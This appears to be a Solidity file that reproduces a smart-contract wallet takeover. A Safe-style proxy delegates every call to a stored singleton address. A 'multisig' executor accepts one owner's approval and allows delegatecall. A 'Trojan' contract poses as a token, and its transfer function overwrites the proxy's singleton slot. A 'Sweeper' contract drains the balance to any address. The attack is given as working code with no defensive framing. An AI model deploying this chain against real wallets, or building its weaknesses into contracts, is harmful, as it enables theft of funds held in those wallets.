// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.30;

/// @title A wallet with the storage of a Safe, whose owner's approval stands for that of all.
contract WalletProxy {
    address private _singleton;
    address private _modules;
    address private _owner;
    uint256 private _ownerCount = 1;
    uint256 private _threshold = 1;

    constructor(address singleton, address owner) {
        _singleton = singleton;
        _owner = owner;
    }

    fallback() external payable {
        address to = _singleton;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), to, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }

    receive() external payable {}
}

contract Multisig {
    address private _singleton;
    address private _modules;
    address private _owner;

    event ExecutionSuccess(bytes32 indexed hash, uint256 payment);

    function execTransaction(address to, uint256 value, bytes calldata data, uint8 operation) external {
        require(msg.sender == _owner, "not approved");
        (bool ok,) = operation == 1 ? to.delegatecall(data) : to.call{value: value}(data);
        require(ok, "failed");
        emit ExecutionSuccess(keccak256(data), 0);
    }
}

/// @title Looks like a token, and writes the wallet's first slot.
contract Trojan {
    address private _singleton;

    function transfer(address to, uint256) external returns (bool) {
        _singleton = to;
        return true;
    }
}

contract Sweeper {
    function sweep(address to) external {
        (bool ok,) = to.call{value: address(this).balance}("");
        require(ok, "not sent");
    }
}
